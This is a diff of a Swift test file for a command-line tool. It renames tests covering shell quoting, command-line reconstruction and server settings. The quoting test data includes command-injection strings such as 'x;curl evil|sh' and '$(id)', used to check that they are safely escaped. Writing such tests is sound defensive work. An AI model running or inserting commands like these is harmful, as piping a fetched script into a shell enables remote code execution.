@@ -26,7 +26,7 @@ import TextCore
             (["--server", "http://me:secret@board.test"], ""),
             (["--server", "http://a.test/it's"], #"--server 'http://a.test/it'\''s' "#),
         ] as [([String], String)])
-    func `What was typed of the place is repeated, and nothing else`(typed: [String], part: String) throws {
+    func `Repeats only the typed options of the place`(typed: [String], part: String) throws {
         let line = try invocation(["doctor"] + typed, setting: "http://set.test").commandLine("get 5")
         #expect(line == "sample-cli \(part)get 5")
     }
@@ -35,7 +35,7 @@ import TextCore
         (["get"], "sample-cli get --page 2"),
         (["--language", "ko", "get", "--store", "memory"], "sample-cli --store memory get --page 2"),
     ])
-    func `The next page is of the same command at the same place`(typed: [String], line: String) throws {
+    func `The next page belongs to the same command at the same place`(typed: [String], line: String) throws {
         #expect(try invocation(typed).commandLine(page: "page", "2") == line)
     }
 
@@ -43,16 +43,16 @@ import TextCore
         ("민수", "민수"), ("é", "é"), ("Kim Minsu", "'Kim Minsu'"), ("x;curl evil|sh", "'x;curl evil|sh'"),
         ("a\u{A0}b", "'a\u{A0}b'"), ("$(id)", "'$(id)'"), ("it's", #"'it'\''s'"#), ("", "''"), ("~", "'~'"),
     ])
-    func `A word is quoted unless a shell leaves it as it is`(text: String, word: String) {
+    func `Quotes a word unless a shell leaves it unchanged`(text: String, word: String) {
         #expect(Invocation.quoted(text) == word)
     }
 
     @Test(arguments: ["lamp", "", "it's", "a  b", "$(x) `y` \\", "'", "\"한글\"", "-a=b"])
-    func `A test reads the words of a command as a shell does`(text: String) {
+    func `A test splits a command line like a shell`(text: String) {
         #expect(ScreenTest.words(of: "sample-cli list \(Invocation.quoted(text)) x") == ["list", text, "x"])
     }
 
-    @Test func `Another place takes the server's place, and the profile stays`() throws {
+    @Test func `Another place replaces the server, and the profile stays`() throws {
         let call = try invocation(["doctor", "--server", "http://a.test", "--profile", "x"])
         #expect(
             call.at(place: "http://b.test").commandLine("get")
@@ -61,13 +61,13 @@ import TextCore
     }
 
     @Test(arguments: [("http://set.test", "--server none "), ("none", ""), (nil, "")])
-    func `This device is only named where the settings name a server`(setting: String?, part: String) throws {
+    func `Names this device only if the settings name a server`(setting: String?, part: String) throws {
         let line = try invocation(["doctor"], setting: setting).at(place: nil).commandLine("get")
         #expect(line == "sample-cli \(part)get")
     }
 
     @MainActor
-    @Test func `Where a key belongs is told with the profile, without the address that may hold one`()
+    @Test func `Shows where to store a key, with the profile and without the address that may contain a key`()
         async throws
     {
         let app = try TestApp()
